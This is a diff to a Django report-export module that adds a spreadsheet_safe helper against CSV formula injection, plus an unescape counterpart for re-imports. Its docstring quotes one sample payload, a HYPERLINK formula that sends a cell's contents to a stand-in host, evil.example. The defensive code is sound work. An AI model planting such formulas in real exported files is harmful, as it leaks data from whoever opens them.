@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import csv
 from collections.abc import Iterable, Iterator
+from typing import Any
 
 from django.db.models import QuerySet
 from django.http import StreamingHttpResponse
@@ -66,20 +67,37 @@ def attempt_report_rows(attempts: QuerySet[Attempt]) -> Iterator[list]:
         ]
 
 
+# What makes a spreadsheet program read a cell as a formula (OWASP "CSV injection").
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: Any) -> Any:
+    """``value`` as a cell no spreadsheet program runs as a formula.
+
+    Every export (CSV or XLSX) passes its cells through here: client names and
+    addresses, subjects and server replies come from outside, and a cell such as
+    ``=HYPERLINK("http://evil.example/?leak="&A2)`` would otherwise run when the
+    person who exported opens the file. A leading apostrophe is the usual escape:
+    spreadsheets show the text as written, and the import takes it off again.
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
+        return "'" + value
+    return value
+
+
+def spreadsheet_unescape(value: str) -> str:
+    """The text ``spreadsheet_safe`` escaped, as it was (for imports of exports)."""
+    if value.startswith("'") and value[1:].startswith(FORMULA_TRIGGERS):
+        return value[1:]
+    return value
+
+
 def _csv_lines(header: list[str], rows: Iterable[list]) -> Iterator[str]:
     writer = csv.writer(_Echo())
     # A BOM so that spreadsheet programs read the file as UTF-8.
     yield "\ufeff" + writer.writerow(header)
     for row in rows:
-        yield writer.writerow([_safe_cell(v) for v in row])
-
-
-def _safe_cell(value):
-    # A cell starting with = + - @ is a formula to spreadsheet programs: server
-    # replies and subjects come from outside, so they are never run as one.
-    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
-        return "'" + value
-    return value
+        yield writer.writerow([spreadsheet_safe(v) for v in row])
 
 
 def attempt_report_response(
